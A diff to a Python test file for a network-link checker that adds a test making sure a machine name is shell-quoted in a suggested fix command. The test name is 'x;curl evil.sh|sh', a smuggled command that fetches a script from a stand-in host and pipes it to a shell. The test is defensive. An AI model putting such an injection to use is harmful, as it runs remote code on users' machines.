@@ -208,8 +208,18 @@ AIR = WIRE | {"kind": "Wi-Fi", "interface": "wlan0", "rtt_ms": 8.0, "mbit_per_s"
 AGREED = {"eth0": 1000}
 
 
-def judged(*ways: dict, agreed: dict[str, int] = AGREED, wired: tuple[Network, ...] = ()) -> list:
-    return links.judge(links.Reading(tuple(("beta", way) for way in ways), agreed, wired))
+def judged(
+    *ways: dict,
+    agreed: dict[str, int] = AGREED,
+    wired: tuple[Network, ...] = (),
+    name: str = "beta",
+) -> list:
+    return links.judge(links.Reading(tuple((name, way) for way in ways), agreed, wired))
+
+
+def test_a_machines_name_is_one_word_in_a_command_that_people_copy():
+    (found,) = judged(WIRE | {"mbit_per_s": 94.0}, name="x;curl evil.sh|sh")
+    assert found.fix.endswith("check links 'x;curl evil.sh|sh'")
 
 
 def test_links_that_are_as_they_should_be():
